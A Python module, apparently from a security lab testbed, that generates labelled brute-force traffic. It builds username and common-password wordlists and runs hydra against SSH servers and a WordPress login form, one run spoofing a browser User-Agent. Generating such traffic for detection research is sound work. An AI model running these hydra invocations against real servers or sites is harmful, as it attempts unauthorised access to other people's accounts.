"""Password guessing with hydra: ssh, and WordPress's login form."""

import random

SSH = {"sshd": "login_bruteforce"}
FORM = {"access": "login_bruteforce", "error": "login_bruteforce"}
COMMON = """123456 password qwerty letmein admin welcome monkey abc123 1q2w3e iloveyou master hello freedom whatever trustno1 654321 charlie
passw0rd starwars 111111 princess login solo flower hottie loveme zaq1zaq1 password1 superman 696969 shadow michael ninja mustang jordan harley ranger hunter buster""".split()


def word_lists(lab, rng, hit, suffix=""):
    """Files of users and passwords, their names ending in `suffix`; `hit` is the person whose password is on the list."""
    users = [p.login for p in lab.testbed.people] + rng.sample(["root", "admin", "test", "oracle", "ubuntu", "postgres", "git", "backup", "ftp", "pi", "guest", "www-data", "nagios"], 5)
    rng.shuffle(users)
    passwords = rng.sample(COMMON, 7) + [hit.password]
    paths = lab.folder / f"users{suffix}.txt", lab.folder / f"passwords{suffix}.txt"
    for path, words in zip(paths, (users, passwords)):
        path.write_text("\n".join(words) + "\n")
    return [str(path) for path in paths]


def ssh(lab):
    """Guess accounts of the servers."""
    bed, rng = lab.testbed, random.Random(lab.testbed.seed + 400)
    hit = next(person for person in bed.people if person.weak)
    for host, source in ((lab.intra, bed.intruder.address), (lab.web, bed.intruder.shared_address)):
        if bed.short and host is lab.web:
            continue
        users, passwords = word_lists(lab, rng, hit)
        route = f"ip -n {lab.attacker.name} route replace {host.address}/32 dev eth0 src {source}"
        lab.attacker.attempt(route, timeout=5)
        with lab.shared_address, lab.journal.step(f"hydra-ssh-{host.name}", "hydra", [source], SSH):
            lab.attacker.attempt(["hydra", "-t", "4", "-I", "-L", users, "-P", passwords, f"ssh://{host.address}"], timeout=25 if bed.short else 70)
        lab.attacker.attempt(f"ip -n {lab.attacker.name} route del {host.address}/32", timeout=5)


def form(lab):
    """Guess WordPress accounts, as hydra does by default and with a browser's name."""
    bed, rng = lab.testbed, random.Random(lab.testbed.seed + 500)
    hit = next(person for person in bed.people if person.weak)
    for name, header in (("hydra-form", ""), ("hydra-form-borrowed", f":H=User-Agent\\: {rng.choice(bed.intruder.tool_agents)}")):
        users, passwords = word_lists(lab, rng, hit, "-form")
        form_text = f"/wp-login.php:log=^USER^&pwd=^PASS^&wp-submit=Log+In:S=Location{header}"
        with lab.journal.step(name, "hydra", [bed.intruder.address], FORM):
            lab.attacker.attempt(["hydra", "-t", "4", "-I", "-L", users, "-P", passwords, bed.www, "http-post-form", form_text], timeout=20 if bed.short else 45)
